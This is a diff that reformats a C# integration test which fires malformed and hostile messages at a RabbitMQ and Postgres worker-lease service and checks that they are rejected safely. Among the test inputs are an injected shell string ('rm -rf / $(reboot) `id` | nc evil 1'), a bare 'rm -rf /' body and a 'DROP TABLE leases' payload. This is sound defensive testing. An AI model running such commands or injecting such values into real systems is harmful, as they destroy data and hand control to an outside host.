@@ -20,7 +20,8 @@ public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTe
 
     LifecycleCluster _cluster = null!;
 
-    IReadOnlyDictionary<string, string?> Settings => broker.Settings.Concat(database.Settings).Concat(new Dictionary<string, string?>
+    IReadOnlyDictionary<string, string?> Settings
+        => broker.Settings.Concat(database.Settings).Concat(new Dictionary<string, string?>
     {
         [$"Pools:{Pool}:HotTarget"] = "3",
         [$"Pools:{Pool}:MaxWorkers"] = "12",
@@ -34,7 +35,8 @@ public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTe
     }).ToDictionary();
 
     public async Task InitializeAsync()
-        => _cluster = await LifecycleCluster.StartAsync(Settings, database.ConnectionString, ["LeaseSaga", "Provisioner", "Trust"]);
+        => _cluster = await LifecycleCluster.StartAsync(Settings, database.ConnectionString,
+            ["LeaseSaga", "Provisioner", "Trust"]);
 
     public async Task DisposeAsync() => await _cluster.DisposeAsync();
 
@@ -55,50 +57,75 @@ public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTe
         {
             var id = Guid.NewGuid();
             expectRejected[id] = (what, reason);
-            await raw.PublishAsync(LeaseRequestedExchange, RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "LeaseRequested", message(id)), Guid.NewGuid().ToString());
+            await raw.PublishAsync(LeaseRequestedExchange, RawAmqp.Envelope(Guid.NewGuid().ToString(),
+                Urn + "LeaseRequested", message(id)), Guid.NewGuid().ToString());
         }
 
         await Rejected("missing fields", LeaseRejectionReasons.InvalidRequest, id => $$"""{"leaseId":"{{id}}"}""");
-        await Rejected("1 MB instance id", LeaseRejectionReasons.InvalidRequest, id => Lease(id, instance: new string('x', 1024 * 1024)));
-        await Rejected("shell metacharacters in the thumbprint", LeaseRejectionReasons.InvalidRequest, id => Lease(id, print: "abc; rm -rf / $(reboot) `id` | nc evil 1"));
+        await Rejected("1 MB instance id", LeaseRejectionReasons.InvalidRequest,
+            id => Lease(id, instance: new string('x', 1024 * 1024)));
+        await Rejected("shell metacharacters in the thumbprint", LeaseRejectionReasons.InvalidRequest,
+            id => Lease(id, print: "abc; rm -rf / $(reboot) `id` | nc evil 1"));
         await Rejected("unknown pool", LeaseRejectionReasons.UnknownPool, id => Lease(id, pool: "no-such-pool"));
-        await Rejected("10,000-character pool name", LeaseRejectionReasons.UnknownPool, id => Lease(id, pool: new string('p', 10_000)));
-        await Rejected("10,000-character task id", LeaseRejectionReasons.InvalidRequest, id => Lease(id, task: new string('t', 10_000)));
+        await Rejected("10,000-character pool name", LeaseRejectionReasons.UnknownPool,
+            id => Lease(id, pool: new string('p', 10_000)));
+        await Rejected("10,000-character task id", LeaseRejectionReasons.InvalidRequest,
+            id => Lease(id, task: new string('t', 10_000)));
 
         // Messages that must land in an _error queue, with the exception that refused them.
         var expectError = new Dictionary<string, (string What, string Queue)>();
-        async Task Error(string what, string queue, string destination, string body, bool toQueue = false, string contentType = RawAmqp.MassTransitJson)
+        async Task Error(string what, string queue, string destination, string body, bool toQueue = false,
+            string contentType = RawAmqp.MassTransitJson)
         {
             var messageId = Guid.NewGuid().ToString();
             expectError[messageId] = (what, queue);
             await raw.PublishAsync(destination, body, messageId, toQueue, contentType);
         }
 
-        await Error("invalid JSON", "lease-state_error", LeaseRequestedExchange, """{"messageType":["urn:message:DynamicWorkers.Contracts:LeaseRequested"],"message":{"leaseId":""");
-        await Error("not JSON, unknown content type", "lease-state_error", LeaseRequestedExchange, "rm -rf /", contentType: "text/plain");
+        await Error("invalid JSON", "lease-state_error", LeaseRequestedExchange,
+            """{"messageType":["urn:message:DynamicWorkers.Contracts:LeaseRequested"],"message":{"leaseId":""");
+        await Error("not JSON, unknown content type", "lease-state_error", LeaseRequestedExchange, "rm -rf /",
+            contentType: "text/plain");
         await Error("wrong field type (number for the lease id)", "lease-state_error", LeaseRequestedExchange,
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "LeaseRequested", """{"leaseId":42,"instanceId":["a"],"pool":{}}"""));
-        await Error("invalid JSON straight to the queue", "lease-state_error", "lease-state", "\u0000\u0001 not json", toQueue: true);
-        await Error("negative idle timeout", "set-instance-lifecycle_error", "DynamicWorkers.Contracts:SetInstanceLifecycle",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle", """{"instanceId":"hostile","idleTimeout":"-00:05:00"}"""));
-        await Error("absurd max worker age", "set-instance-lifecycle_error", "DynamicWorkers.Contracts:SetInstanceLifecycle",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle", """{"instanceId":"hostile","maxWorkerAge":"10675199.02:48:05"}"""));
-        await Error("wrong field type in SetInstanceLifecycle", "set-instance-lifecycle_error", "set-instance-lifecycle",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle", """{"instanceId":"hostile","maxLeaseDuration":true}"""), toQueue: true);
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "LeaseRequested",
+                """{"leaseId":42,"instanceId":["a"],"pool":{}}"""));
+        await Error("invalid JSON straight to the queue", "lease-state_error", "lease-state", "\u0000\u0001 not json",
+            toQueue: true);
+        await Error("negative idle timeout", "set-instance-lifecycle_error",
+            "DynamicWorkers.Contracts:SetInstanceLifecycle",
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle",
+                """{"instanceId":"hostile","idleTimeout":"-00:05:00"}"""));
+        await Error("absurd max worker age", "set-instance-lifecycle_error",
+            "DynamicWorkers.Contracts:SetInstanceLifecycle",
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle",
+                """{"instanceId":"hostile","maxWorkerAge":"10675199.02:48:05"}"""));
+        await Error("wrong field type in SetInstanceLifecycle", "set-instance-lifecycle_error",
+            "set-instance-lifecycle",
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetInstanceLifecycle",
+                """{"instanceId":"hostile","maxLeaseDuration":true}"""), toQueue: true);
         await Error("negative pool size", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolSize",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize", $$"""{"pool":"{{Pool}}","hotTarget":-5,"maxWorkers":-1}"""));
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize",
+                $$"""{"pool":"{{Pool}}","hotTarget":-5,"maxWorkers":-1}"""));
         await Error("resizing an unknown pool", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolSize",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize", """{"pool":"no-such-pool","hotTarget":1,"maxWorkers":2}"""));
-        await Error("a pool size beyond the configuration's bounds", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolSize",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize", $$"""{"pool":"{{Pool}}","hotTarget":2000,"maxWorkers":1000000}"""));
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize",
+                """{"pool":"no-such-pool","hotTarget":1,"maxWorkers":2}"""));
+        await Error("a pool size beyond the configuration's bounds", "pool-keeper_error",
+            "DynamicWorkers.Contracts:SetPoolSize",
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolSize",
+                $$"""{"pool":"{{Pool}}","hotTarget":2000,"maxWorkers":1000000}"""));
         await Error("a blank pool image", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolImage",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolImage", $$"""{"pool":"{{Pool}}","image":"  "}"""));
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolImage",
+                $$"""{"pool":"{{Pool}}","image":"  "}"""));
         await Error("an image for an unknown pool", "pool-keeper_error", "DynamicWorkers.Contracts:SetPoolImage",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolImage", """{"pool":"no-such-pool","image":"image"}"""));
-        await Error("a sweep with no grace", "sweep-overdue-timers_error", "DynamicWorkers.Contracts.Internal:SweepOverdueTimers",
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), "urn:message:DynamicWorkers.Internal:SweepOverdueTimers", """{"grace":"00:00:00"}"""));
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), Urn + "SetPoolImage",
+                """{"pool":"no-such-pool","image":"image"}"""));
+        await Error("a sweep with no grace", "sweep-overdue-timers_error",
+            "DynamicWorkers.Contracts.Internal:SweepOverdueTimers",
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), "urn:message:DynamicWorkers.Internal:SweepOverdueTimers",
+                """{"grace":"00:00:00"}"""));
         await Error("unknown message type", "lease-state_skipped", LeaseRequestedExchange,
-            RawAmqp.Envelope(Guid.NewGuid().ToString(), "urn:message:Evil:DropTables", """{"sql":"DROP TABLE leases"}"""));
+            RawAmqp.Envelope(Guid.NewGuid().ToString(), "urn:message:Evil:DropTables",
+                """{"sql":"DROP TABLE leases"}"""));
 
         await valid;
 
@@ -106,7 +133,8 @@ public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTe
         await Eventually.True(
             () => expectRejected.Keys.All(id => _cluster.Ledger.OutcomesOf(id).Count > 0),
             TimeSpan.FromSeconds(30),
-            "a rejection for every bad request: missing " + string.Join(", ", expectRejected.Where(e => _cluster.Ledger.OutcomesOf(e.Key).Count == 0).Select(e => e.Value.What)),
+            "a rejection for every bad request: missing " + string.Join(", ",
+                expectRejected.Where(e => _cluster.Ledger.OutcomesOf(e.Key).Count == 0).Select(e => e.Value.What)),
             _cluster.Diagnostics);
         foreach (var (id, (what, reason)) in expectRejected)
         {
@@ -132,8 +160,11 @@ public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTe
             },
             TimeSpan.FromSeconds(30),
             "every bad message in its error queue",
-            () => "missing: " + string.Join(", ", expectError.Where(e => !landed.ContainsKey(e.Key)).Select(e => $"{e.Value.What} (expected in {e.Value.Queue})"))
-                  + "\nlanded: " + string.Join(", ", landed.Select(l => $"{l.Value.Queue}: {l.Value.Message.Headers.GetValueOrDefault("MT-Reason")} {l.Value.Message.Headers.GetValueOrDefault("MT-Fault-Message")}"))
+            () => "missing: " + string.Join(", ", expectError.Where(e => !landed.ContainsKey(e.Key))
+                .Select(e => $"{e.Value.What} (expected in {e.Value.Queue})"))
+                  + "\nlanded: " + string.Join(", ",
+                      landed.Select(l => $"{l.Value.Queue}: {l.Value.Message.Headers.GetValueOrDefault("MT-Reason")} "
+                  + $"{l.Value.Message.Headers.GetValueOrDefault("MT-Fault-Message")}"))
                   + "\n" + _cluster.Diagnostics());
         foreach (var (messageId, (what, queue)) in expectError)
         {
@@ -142,12 +173,14 @@ public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTe
             if (queue.EndsWith("_error", StringComparison.Ordinal))
             {
                 Assert.True(message.Headers.TryGetValue("MT-Fault-ExceptionType", out var type) && type.Length > 0,
-                    $"{what}: no exception recorded; headers: {string.Join(", ", message.Headers.Select(h => h.Key + "=" + h.Value))}");
+                    $"{what}: no exception recorded; headers: "
+                        + $"{string.Join(", ", message.Headers.Select(h => h.Key + "=" + h.Value))}");
             }
         }
 
         // The valid leases all completed, and the same services still serve a new one after all this.
-        var validLeases = _cluster.Ledger.Requests.Where(r => r.InstanceId.StartsWith("good-", StringComparison.Ordinal)).Select(r => r.LeaseId).Distinct().ToList();
+        var validLeases = _cluster.Ledger.Requests.Where(
+            r => r.InstanceId.StartsWith("good-", StringComparison.Ordinal)).Select(r => r.LeaseId).Distinct().ToList();
         Assert.Equal(20, validLeases.Count);
         Assert.All(validLeases, id => Assert.IsType<LeaseGranted>(_cluster.Ledger.OutcomesOf(id)[0]));
         await _cluster.PlayInstanceAsync("after-the-storm", Pool, 1, _ => false, TimeSpan.FromSeconds(60), seed: 99);
@@ -155,13 +188,17 @@ public sealed class HostileInputTests(RabbitMqTestVirtualHost broker, PostgresTe
 
         // No saga row is corrupted: every lease is in a known state with a sane instance id, the pool's size is sane.
         Assert.Equal(0, await _cluster.ScalarAsync(
-            "SELECT count(*) FROM leases WHERE \"CurrentState\" NOT IN ('Allocating', 'WaitingForWorker', 'Granted', 'Released', 'Revoked', 'Rejected') OR length(\"InstanceId\") > 200"));
+            "SELECT count(*) FROM leases WHERE \"CurrentState\" NOT IN ('Allocating', 'WaitingForWorker', 'Granted', "
+                + "'Released', 'Revoked', 'Rejected') OR length(\"InstanceId\") > 200"));
         Assert.Equal(expectRejected.Count + 21, await _cluster.ScalarAsync("SELECT count(*) FROM leases"));
-        Assert.Equal(0, await _cluster.ScalarAsync("SELECT count(*) FROM pools WHERE \"HotTarget\" < 0 OR \"HotTarget\" > \"MaxWorkers\""));
+        Assert.Equal(0, await _cluster.ScalarAsync(
+            "SELECT count(*) FROM pools WHERE \"HotTarget\" < 0 OR \"HotTarget\" > \"MaxWorkers\""));
 
         // Every queue a bad message reached still has its consumer.
-        var consumers = await raw.ConsumersAsync(expectError.Values.Select(e => e.Queue).Where(q => q.EndsWith("_error", StringComparison.Ordinal)).Select(q => q[..^"_error".Length]).Append("lease-state").Distinct());
-        var violations = InvariantChecker.Check(_cluster.Ledger, await _cluster.CloudAsync(), await _cluster.ServiceAsync(consumers), expectAllDeleted: false);
+        var consumers = await raw.ConsumersAsync(expectError.Values.Select(e => e.Queue).Where(q => q.EndsWith("_error",
+            StringComparison.Ordinal)).Select(q => q[..^"_error".Length]).Append("lease-state").Distinct());
+        var violations = InvariantChecker.Check(_cluster.Ledger, await _cluster.CloudAsync(),
+            await _cluster.ServiceAsync(consumers), expectAllDeleted: false);
         Assert.True(violations.Count == 0, string.Join("\n", violations));
     }
 }
